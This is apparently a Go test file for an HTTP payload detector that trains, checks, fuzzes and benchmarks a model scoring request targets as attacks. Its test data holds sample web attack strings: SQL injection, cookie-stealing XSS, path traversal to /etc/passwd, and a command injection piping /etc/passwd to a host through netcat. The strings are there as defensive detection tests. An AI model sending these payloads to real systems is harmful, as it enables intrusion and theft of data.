package payload_test

import (
	"bytes"
	"errors"
	"fmt"
	"math"
	"os"
	"strings"
	"testing"
	"time"

	sentinel "github.com/sentinel-ai/sentinel-ai"
	"github.com/sentinel-ai/sentinel-ai/internal/detect/payload"
	"github.com/sentinel-ai/sentinel-ai/internal/detect/payload/benign"
)

var noon = time.Date(2026, 2, 9, 12, 0, 0, 0, time.UTC)

var attacks = []string{
	"/item?id=1' union select password from users-- -", "/page?name=<script>alert(document.cookie)</script>", "/view?file=../../../../etc/passwd",
	"/ping?host=;cat /etc/passwd|nc 192.0.2.1 4444", "/x?q=1 and sleep(5)#", "/p?u=\"><img src=x onerror=alert(1)>",
}

// shipped is the model that is shipped.
func shipped(t testing.TB) *payload.Model {
	t.Helper()
	data, err := os.ReadFile("../../../models/payload.model")
	if err != nil {
		t.Fatal(err)
	}
	m, err := payload.Decode(data)
	if err != nil {
		t.Fatal(err)
	}
	return m
}

// examples are few, to train quickly.
func examples() (out []payload.Example) {
	g := benign.New(7)
	for i := range 600 {
		out = append(out, payload.Example{Text: strings.ToLower(g.Target())})
		if i%3 == 0 {
			out = append(out, payload.Example{Text: fmt.Sprintf("/%d%s%c", i, attacks[i/3%len(attacks)], 'a'+i%26), Attack: true})
		}
	}
	return out
}

func TestTrain(t *testing.T) {
	xs := examples()
	m, err := payload.Train(xs, 3)
	if err != nil {
		t.Fatal(err)
	}
	again, err := payload.Train(xs, 3)
	if err != nil || !bytes.Equal(m.Encode(), again.Encode()) {
		t.Error("the same examples and seed give another model")
	}
	other, _ := payload.Train(xs, 4)
	if bytes.Equal(m.Encode(), other.Encode()) {
		t.Error("the seed does not matter")
	}
	g := benign.New(8)
	var harmless []string
	for range 500 {
		harmless = append(harmless, strings.ToLower(g.Target()))
	}
	m.SetThreshold(harmless, 0.5)
	s := m.NewScorer()
	for _, text := range harmless {
		if s.Score(text) > m.Threshold-0.5 {
			t.Errorf("%q is above the threshold less its margin", text)
		}
	}
	found := 0
	for _, a := range attacks {
		if s.Score(a) >= m.Threshold {
			found++
		}
	}
	if found < len(attacks)-1 {
		t.Errorf("%d of %d attacks are found", found, len(attacks))
	}
	if _, err := payload.Train(xs[:1], 1); err == nil {
		t.Error("a model is learnt from one class")
	}
}

func TestModel(t *testing.T) {
	m := shipped(t)
	s := m.NewScorer()
	for _, a := range attacks {
		score := s.Score(a)
		if score < m.Threshold {
			t.Errorf("%q has %.2f, below %.2f", a, score, m.Threshold)
		}
		seg := s.Explain(a)
		if seg.Start < 0 || seg.End > len(a) || seg.Start >= seg.End || !(seg.Share > 0 && seg.Share <= 1) {
			t.Errorf("%q: segment %+v", a, seg)
		}
	}
	const text = "/a/harmless/path/to/a/page?name=<script>alert(1)</script>"
	if seg := s.Explain(text); !strings.Contains(text[seg.Start:seg.End], "script>alert") {
		t.Errorf("the segment of %q is %q", text, text[seg.Start:seg.End])
	}
	if s.Score("/item?id=12345") != s.Score("/item?id=7") || s.Score("/item?q=\u4f60\u597d") != s.Score("/item?q=\u00e9") {
		t.Error("numbers or letters outside ASCII matter")
	}
	long := strings.Repeat("a", payload.MaxText)
	if s.Score(long) != s.Score(long+"<script>alert(1)</script>") {
		t.Error("more than MaxText is read")
	}
	last := 0.0
	for score := -50.0; score <= 50; score += 0.25 {
		p := m.Probability(score)
		if p < last || p > payload.MaxProbability {
			t.Errorf("the probability of %v is %v, after %v", score, p, last)
		}
		last = p
	}
	if last != payload.MaxProbability || m.Probability(math.NaN()) != 0 {
		t.Errorf("the highest probability is %v", last)
	}
}

// TestHarmless: the shipped threshold lies above requests of a seed that nothing
// was learnt from.
func TestHarmless(t *testing.T) {
	m := shipped(t)
	s := m.NewScorer()
	g := benign.New(0xbeef)
	for range 20_000 {
		if text := strings.ToLower(g.Target()); s.Score(text) >= m.Threshold {
			t.Errorf("%.2f: %q", s.Score(text), text)
		}
	}
	if m.Benign < 300_000 {
		t.Errorf("the threshold rests on %d harmless requests", m.Benign)
	}
}

func TestFaultModelFile(t *testing.T) {
	t.Run("a corrupt model file is refused and named", func(t *testing.T) {
		good := shipped(t).Encode()
		if m, err := payload.Decode(good); err != nil || !bytes.Equal(m.Encode(), good) {
			t.Fatalf("the model does not come back: %v", err)
		}
		for _, at := range []int{12, 20, 40, len(good) / 2, len(good) - 1} {
			bad := bytes.Clone(good)
			bad[at] ^= 1
			if _, err := payload.Decode(bad); err == nil {
				t.Errorf("a file with byte %d changed is taken", at)
			}
		}
		bad := bytes.Clone(good)
		bad[len(bad)/2] ^= 1
		if _, err := payload.Decode(bad); !errors.Is(err, payload.ErrCorrupt) {
			t.Errorf("a damaged file: %v", err)
		}
		bad = bytes.Clone(good)
		bad[8] = 99
		if _, err := payload.Decode(bad); err == nil || !strings.Contains(err.Error(), "version 99") {
			t.Errorf("another version: %v", err)
		}
		for _, n := range []int{0, 7, 8, 30, payload.Size - 1} {
			if _, err := payload.Decode(good[:n]); err == nil {
				t.Errorf("%d bytes are taken", n)
			}
		}
	})
}

func FuzzDecode(f *testing.F) {
	good := shipped(f).Encode()
	f.Add(good)
	f.Add(good[:100])
	f.Add([]byte("SNTLPAY\n"))
	f.Fuzz(func(t *testing.T, data []byte) {
		m, err := payload.Decode(data)
		if err != nil {
			return
		}
		if score := m.NewScorer().Score("/a?b=c"); math.IsNaN(score) {
			t.Error("a model that was taken scores NaN")
		}
	})
}

func FuzzLoadMemory(f *testing.F) {
	s := payload.NewStage(shipped(f), payload.Config{})
	for i := range 60 {
		s.Learn(float64(i), noon)
		s.Served(uint64(i%3), uint64(i), noon.AddDate(0, 0, i/15))
	}
	f.Add(s.AppendMemory(nil))
	f.Fuzz(func(t *testing.T, data []byte) {
		s := payload.NewStage(shipped(t), payload.Config{})
		if s.LoadMemory(data, noon) == nil {
			s.State(noon)
			s.AppendMemory(nil)
		}
	})
}

func FuzzScore(f *testing.F) {
	for _, a := range attacks {
		f.Add(a)
	}
	f.Add("0x0x00x1\u00e9\u00e9")
	s := shipped(f).NewScorer()
	f.Fuzz(func(t *testing.T, text string) {
		if score := s.Score(text); math.IsNaN(score) || math.IsInf(score, 0) {
			t.Errorf("score %v", score)
		}
		if seg := s.Explain(text); seg.Start < 0 || seg.End > len(text) || seg.Start > seg.End {
			t.Errorf("segment %+v of %d bytes", seg, len(text))
		}
	})
}

// ask puts a request to a stage.
func ask(s *payload.Stage, target string) (score float64, wanted, found bool) {
	h := sentinel.HTTP{Target: target}
	h.Path, h.Query, _ = strings.Cut(target, "?")
	if !s.Wants(&h) {
		return 0, false, false
	}
	v, found := s.Judge(target)
	return v.Score, true, found
}

func TestStage(t *testing.T) {
	s := payload.NewStage(shipped(t), payload.Config{Learning: time.Hour})
	for _, target := range []string{"/", "/index.html", "/static/app.js?v=12.3", "/img/a.png?w=10&h=20", "/blog/2024/05/a-page_of~mine.html"} {
		if _, wanted, _ := ask(s, target); wanted {
			t.Errorf("%s is judged", target)
		}
	}
	for _, target := range []string{"/?q=a", "/static/app.js?v=<script>", "/a b", "/x'y", "/..%2fz"} {
		if _, wanted, _ := ask(s, target); !wanted {
			t.Errorf("%s is not judged", target)
		}
	}
	if _, _, found := ask(s, "/item?id=17&page=2"); found {
		t.Error("a harmless request is found")
	}
	if _, wanted, _ := ask(s, "/item?id=99999&page=3"); wanted {
		t.Error("a request like one that was harmless is judged again")
	}
	if _, wanted, _ := ask(s, "/item?id=0x17&page=3"); !wanted {
		t.Error("a request unlike those is not judged")
	}
	for range 3 {
		if score, _, found := ask(s, attacks[0]); !found || score < s.State(noon).Threshold {
			t.Errorf("an attack has %v", score)
		}
	}
	if st := s.State(noon); st.Found != 3 || st.Skipped != 3 || st.Threshold != st.Shipped {
		t.Errorf("state %+v", st)
	}
}

// TestShape: requests of one shape have one score.
func TestShape(t *testing.T) {
	s := shipped(t).NewScorer()
	for _, pair := range [][2]string{{"/a?b=1", "/a?b=234"}, {"/a1/b?c=10&d=2", "/a77/b?c=9&d=33"}, {"/a?b=0x41", "/a?b=0x9"}} {
		if s.Score(pair[0]) != s.Score(pair[1]) {
			t.Errorf("%q and %q differ", pair[0], pair[1])
		}
	}
	stage := payload.NewStage(shipped(t), payload.Config{})
	ask(stage, "/a?b=%2522")
	if _, wanted, _ := ask(stage, "/a?b=%2527"); !wanted {
		t.Error("digits of an encoding are taken for numbers")
	}
}

func TestStageLearns(t *testing.T) {
	m := shipped(t)
	s := payload.NewStage(m, payload.Config{Learning: 7 * 24 * time.Hour})
	for i := range 4096 {
		s.Learn(m.Threshold-0.01-float64(i%40)/100, noon.Add(time.Duration(i)*time.Minute))
	}
	if st := s.State(noon); st.Threshold != m.Threshold {
		t.Errorf("after three days the threshold is %.2f, the model's is %.2f", st.Threshold, m.Threshold)
	}
	later := noon.AddDate(0, 0, 8)
	for i := range 1024 {
		s.Learn(m.Threshold-0.01-float64(i%40)/100, later)
	}
	st := s.State(later)
	if st.Learning != 1 || st.Threshold < m.Threshold+0.3 || st.Threshold > m.Threshold+3 {
		t.Errorf("after learning: %+v", st)
	}
	other := payload.NewStage(m, payload.Config{Learning: 7 * 24 * time.Hour})
	if err := other.LoadMemory(s.AppendMemory(nil), later); err != nil || other.State(later).Threshold != st.Threshold {
		t.Errorf("what was learnt does not come back: %v, %+v", err, other.State(later))
	}
}

func TestHarmlessPages(t *testing.T) {
	s := payload.NewStage(shipped(t), payload.Config{})
	const page, rare, young = 11, 12, 13
	for i := range 40 {
		day := noon.AddDate(0, 0, i/14)
		s.Served(page, uint64(i), day)
		s.Served(rare, uint64(i%19), day)
		s.Served(young, uint64(i), noon)
	}
	if !s.Exempt(page) || s.Exempt(rare) || s.Exempt(young) || s.Exempt(14) {
		t.Error("served to 40 on three days is not exempt, or to 19, or on one day is")
	}
	if st := s.State(noon); st.Harmless != 1 || st.Exempt != 1 {
		t.Errorf("state %+v", st)
	}
	other := payload.NewStage(shipped(t), payload.Config{})
	saved := s.AppendMemory(nil)
	if err := other.LoadMemory(saved, noon); err != nil || !other.Exempt(page) || other.Exempt(young) {
		t.Errorf("what is harmless does not come back: %v", err)
	}
	saved[100] ^= 1
	if err := other.LoadMemory(saved, noon); !errors.Is(err, payload.ErrMemory) {
		t.Errorf("damaged memory: %v", err)
	}
	// A flood of pages leaves the memory as large as it is.
	for i := range 100_000 {
		s.Served(uint64(i)*0x9e3779b97f4a7c15, uint64(i), noon)
	}
	if n := len(s.AppendMemory(nil)); n > 128<<10 {
		t.Errorf("%d bytes", n)
	}
}

func TestNoAllocation(t *testing.T) {
	s := payload.NewStage(shipped(t), payload.Config{})
	h := sentinel.HTTP{Target: "/search?q=a+b&page=3", Path: "/search", Query: "q=a+b&page=3"}
	i := 0
	targets := make([]string, 2000)
	for i := range targets {
		targets[i] = fmt.Sprintf("/search?q=word%c%c%c", 'a'+i%26, 'a'+i/26%26, 'a'+i/676)
	}
	if n := testing.AllocsPerRun(1000, func() {
		h.Target, h.Query = targets[i], targets[i][8:]
		i++
		if s.Wants(&h) {
			if v, found := s.Judge(h.Target); !found {
				s.Learn(v.Score, noon)
			}
		}
	}); n > 0.5 {
		t.Errorf("%v allocations a request", n)
	}
}

func BenchmarkScore(b *testing.B) {
	s := shipped(b).NewScorer()
	for _, text := range []string{"/search?q=student union election&page=2", attacks[1], "/ads?" + strings.Repeat("key=some-value&", 30)} {
		b.Run(fmt.Sprint(len(text)), func(b *testing.B) {
			b.ReportAllocs()
			for b.Loop() {
				s.Score(text)
			}
		})
	}
}

func BenchmarkWants(b *testing.B) {
	s := payload.NewStage(shipped(b), payload.Config{})
	for _, target := range []string{"/static/app.1234.js", "/search?q=student+union+election&page=2"} {
		h := sentinel.HTTP{Target: target}
		h.Path, h.Query, _ = strings.Cut(target, "?")
		if s.Wants(&h) {
			s.Judge(target)
		}
		b.Run(target[:5], func(b *testing.B) {
			for b.Loop() {
				s.Wants(&h)
			}
		})
	}
}
